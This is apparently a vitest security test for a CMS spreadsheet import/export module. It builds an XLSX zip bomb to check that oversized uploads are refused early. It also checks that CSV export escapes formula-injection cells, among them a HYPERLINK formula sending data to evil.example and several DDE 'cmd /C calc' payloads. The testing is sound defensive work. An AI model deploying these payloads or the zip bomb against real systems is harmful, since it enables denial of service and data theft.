// A hostile file on the import page (and `npm run import`), and hostile cells in its export, without
// Strapi: the page hands the upload to the same readRows, and its CSV export is templateCsv.
//  - An XLSX is a zip, and ExcelJS inflates every entry whole into memory: a zip bomb within the
//    5 MB upload limit (deflate packs zeros ~1,000:1) took the CMS 16 s and 1.1 GB for 300 MB
//    unpacked, so one 5 MB upload could take it down.
//  - A cell a department wrote as `=HYPERLINK(…)` is run by Excel when the office opens the CSV export.
import { crc32, deflateRawSync } from 'node:zlib';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { COLUMNS, readRows, templateCsv, templateWorkbook, validateRows } from '../../cms/src/import/index.ts';

interface ZipEntry {
  name: string;
  data: Buffer;
}

/** A plain zip (deflate, no extras) written with Node's zlib: a bomb is built in a second, where jszip's deflate takes ten. */
export function zipOf(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const packed = deflateRawSync(e.data, { level: 1 });
    const crc = crc32(e.data);
    const size = e.data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, packed);
    centrals.push(central, name);
    offset += local.length + name.length + packed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** The real template (so the file is otherwise a good XLSX) plus one entry of `unpackedMb` MB of spaces (valid XML whitespace). */
export async function xlsxBomb(unpackedMb: number): Promise<Buffer> {
  const template = await JSZip.loadAsync(Buffer.from(await templateWorkbook([]).xlsx.writeBuffer()));
  const entries: ZipEntry[] = [];
  for (const f of Object.values(template.files)) if (!f.dir) entries.push({ name: f.name, data: await f.async('nodebuffer') });
  entries.push({ name: 'customXml/item1.xml', data: Buffer.alloc(unpackedMb * 1024 * 1024, ' ') });
  return zipOf(entries);
}

describe('an XLSX that unpacks to far more than it weighs', () => {
  it('is refused as too large, early', async () => {
    const bomb = await xlsxBomb(70);
    expect(bomb.length).toBeLessThan(512 * 1024); // a tenth of the page's 5 MB upload limit
    const started = Date.now();
    await expect(readRows(bomb, 'xlsx')).rejects.toMatchObject({ code: 'FILE_TOO_LARGE', message: expect.stringContaining('解压后超过') });
    // Inflating up to the limit (64 MB) only, never parsing it (a loaded 2-core box: 1–12 s).
    expect(Date.now() - started).toBeLessThan(45_000);
  });

  it('a real XLSX written by hand in the same way still reads (the control)', async () => {
    const template = await JSZip.loadAsync(Buffer.from(await templateWorkbook([]).xlsx.writeBuffer()));
    const entries: ZipEntry[] = [];
    for (const f of Object.values(template.files)) if (!f.dir) entries.push({ name: f.name, data: await f.async('nodebuffer') });
    const read = await readRows(zipOf(entries), 'xlsx');
    expect(read.rows).toEqual([]);
    expect(read.columns.length).toBe(COLUMNS.length);
  });
});

describe('cells that a spreadsheet would run, in the CSV export', () => {
  const hostile = {
    title: '=HYPERLINK("http://evil.example/?d="&A2,"点此申报")',
    summary: '+cmd|\' /C calc\'!A0',
    contact: '@SUM(1+1)*cmd|\' /C calc\'!A0',
    keywords: '-2+3+cmd|\' /C calc\'!A0',
    industries: '\t=1+1',
  } as const;
  const rows = [{ ...Object.fromEntries(COLUMNS.map((c) => [c.key, null])), itemCode: 'A-1', ...hostile }] as never;

  it('exports each with a leading apostrophe, so Excel shows it as text', () => {
    const csv = templateCsv(rows);
    const record = csv.split('\r\n')[1]!;
    // Worked out by hand: the apostrophe goes in front; a cell with a quote or comma is quoted as RFC 4180 says.
    expect(record).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""点此申报"")"`);
    expect(record).toContain(`'+cmd|' /C calc'!A0`);
    expect(record).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(record).toContain(`'-2+3+cmd|' /C calc'!A0`);
    expect(record).toContain(`'\t=1+1`);
    for (const cell of record.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('reads back to what was stored, so export then import changes nothing', async () => {
    const read = await readRows(Buffer.from(templateCsv(rows)), 'csv');
    const values = validateRows(read.rows).valid[0]!.values;
    expect(values).toMatchObject({ title: hostile.title, summary: hostile.summary, contact: hostile.contact });
    expect(read.rows[0]!.cells.keywords).toBe(hostile.keywords);
    expect(read.rows[0]!.cells.industries).toBe(hostile.industries);
  });
});
